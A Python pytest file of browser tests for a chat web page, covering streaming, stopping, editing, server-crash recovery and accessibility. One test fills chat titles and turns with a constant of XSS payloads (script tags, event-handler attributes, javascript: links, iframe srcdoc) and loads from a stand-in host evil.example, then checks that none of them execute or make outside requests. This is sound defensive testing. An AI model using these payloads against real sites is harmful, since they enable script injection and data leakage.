"""The chat page in a real browser: asking, stopping, joining, editing; and hostile words, which do nothing."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from tools.screenshot import Browser

from metier.workbench.accounts import Person
from metier.workbench.chatsetup import ChatSampling, ChatSetup
from metier.workbench.store.tables import ChatTurn
from metier.workbench.workbench import Workbench
from tests.faults.children import give_model
from tests.support.server import started

pytestmark = pytest.mark.slow
AXE = Path(__file__).parent / "vendor" / "axe-4.14.1.min.js"
HOSTILE = (
    "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"> <svg onload=alert(1)>"
    "<iframe srcdoc='<script>alert(1)</script>'></iframe> <math><mtext></table><img src=x onerror=alert(2)></mtext>\n\n"
    "[a](javascript:alert(3)) ![x](https://evil.example/?q=secret) ![y][r] <video poster=https://evil.example/p>\n"
    "<link rel=stylesheet href=https://evil.example/c.css> <style>body{background:url(https://evil.example/b)}</style>"
    " https://evil.example/auto\n\n[r]: https://evil.example/ref\n\n```js\nalert('code')\n```\n\n**bold**"
)


def signed_in(tab: Browser, served: str, workbench: Workbench, person: Person) -> None:
    """The tab as somebody's browser."""
    token = workbench.accounts.sign_in_as(person, agent="")
    tab.call("Network.setCookie", name="metier", value=token, url=served)


def setup(most: int) -> ChatSetup:
    return ChatSetup(models=("tiny",), sampling=ChatSampling(temperature=1.0, max_new_tokens=most))


def press_enter(tab: Browser, *, composing: bool = False) -> None:
    options = json.dumps({"key": "Enter", "bubbles": True, "cancelable": True, "isComposing": composing})
    tab.evaluate(f"document.querySelector('#chat-ask textarea').dispatchEvent(new KeyboardEvent('keydown', {options}))")


def test_a_question_is_asked_stopped_joined_asked_anew_and_kept(
    served: str, tab: Browser, workbench: Workbench, owner: Person, talking_model: Path
) -> None:
    give_model(talking_model)
    signed_in(tab, served, workbench, owner)
    tab.open(served + "/chat?model=tiny", width=1440)
    tab.fill("[name=max_new_tokens]", "9000")
    tab.fill("[name=temperature]", "0")  # its likeliest words never end
    tab.fill("#chat-ask textarea", "你好吗？")
    press_enter(tab, composing=True)
    time.sleep(0.3)
    assert tab.evaluate("location.pathname") == "/chat"
    press_enter(tab)
    tab.wait_for(
        "location.pathname.length > 6 && document.querySelector('.answer-writing .answer-text')?.textContent", 60
    )
    tab.open(tab.evaluate("location.href"), width=390)  # the answer goes on, and a reload joins it
    before = tab.wait_for("document.querySelector('.answer-writing .answer-text').textContent.length")
    tab.wait_for(f"document.querySelector('.answer-writing .answer-text').textContent.length > {before}")
    assert tab.evaluate("document.documentElement.scrollWidth") <= 390
    pressed = time.monotonic()
    tab.click("#chat-stop:not(.hidden)")
    tab.wait_for("!!document.querySelector('.answer-stopped')")
    assert time.monotonic() - pressed < 2
    tab.fill("[name=max_new_tokens]", "8")
    tab.fill("[name=temperature]", "1")
    tab.click("[data-edit]")
    tab.fill(".question form textarea", "Who are you?")
    tab.click(".question form .btn-primary")
    tab.wait_for("!!document.querySelector('.answer-whole')")
    first = tab.evaluate("document.querySelector('.answer-whole').id")
    tab.click("[data-again]")
    tab.wait_for(f"!!document.querySelector('.answer-whole:not([id={first}])')")
    assert tab.evaluate("document.querySelectorAll('.question').length") == 1
    assert tab.evaluate("document.querySelector('.question-text').textContent") == "Who are you?"
    assert "tokens/s" in tab.evaluate("document.querySelector('.answer-low').parentElement.parentElement.textContent")
    tab.click("[name=two]")
    tab.fill("#chat-ask textarea", "And both of you?")
    tab.click("#chat-send")
    tab.wait_for("document.querySelectorAll('.answers-2 .answer-whole').length === 2", 60)
    assert tab.evaluate("document.documentElement.scrollWidth") <= 390
    tab.click("#chat-load[data-act=unload]")
    tab.wait_for("document.querySelector('#chat-state').dataset.state === 'none'")
    assert tab.messages == []


def test_the_page_finds_its_way_back_after_the_server_was_killed(
    tmp_path: Path, tab: Browser, talking_model: Path
) -> None:
    give_model(talking_model)
    with started(tmp_path / "bench") as server:
        client = server.client()
        long = ChatSetup(models=("tiny",), sampling=ChatSampling(temperature=0, max_new_tokens=9000))
        chat = client.post("/api/v1/chats", json=long.model_dump(mode="json")).json()["id"]
        client.post(f"/api/v1/chats/{chat}/questions", json={"text": "Go on."}).raise_for_status()
        tab.call("Network.setCookie", name="metier", value=client.cookies["metier"], url=server.address)
        tab.open(f"{server.address}/chat/{chat}", width=1440)
        tab.wait_for("document.querySelector('.answer-writing .answer-text')?.textContent.length > 100", 60)
        time.sleep(1.5)  # what was said is saved about every second
        server.kill()
    with started(tmp_path / "bench", port=int(server.address.rpartition(":")[2])):
        tab.wait_for("!!document.querySelector('.answer-stopped .notice')", 30)
        assert tab.evaluate("document.querySelector('.answer-stopped .prose').textContent.length") > 100


def test_attack_53_54_hostile_words_do_nothing(
    served: str, tab: Browser, workbench: Workbench, owner: Person, talking_model: Path
) -> None:
    give_model(talking_model)
    chat = workbench.chats.create(owner, setup(8))
    workbench.chats.change(owner, chat.id, title=HOSTILE)
    of = {"owner_id": owner.id, "chat_id": chat.id}
    details = {
        "title": HOSTILE,
        "notices": [HOSTILE],
        "reason": {"key": "workbench.reason_unexpected", "fields": {"problem": HOSTILE}},
    }
    with workbench.database.write() as session:
        session.add(ChatTurn(**of, place=0, role="user", text=HOSTILE))
        session.add(
            ChatTurn(**of, place=1, role="assistant", side="left", text=HOSTILE, thinking=HOSTILE, details=details)
        )
    signed_in(tab, served, workbench, owner)
    tab.open(f"{served}/chat/{chat.id}", width=1440)
    tab.wait_for("document.querySelector('#chat-state').dataset.state")
    assert tab.evaluate("document.querySelector('.prose strong').textContent") == "bold"
    assert (
        tab.evaluate("document.querySelectorAll('main :is(img, script, iframe, video, math, style, link)').length") == 0
    )
    links = tab.evaluate("[...document.querySelectorAll('.prose a')].map(a => a.protocol)")
    assert "javascript:" not in links
    assert "owned" not in tab.evaluate("document.title").split(" · ")[-1]
    tab.evaluate(AXE.read_text(encoding="utf-8"))
    found = tab.evaluate(
        "axe.run().then(r => r.violations.filter(v => ['serious', 'critical'].includes(v.impact)).map(v => v.id))"
    )
    assert found == []
    assert tab.messages == []
    outside = [address for address in tab.requests if not address.startswith((served, "data:"))]
    assert outside == []
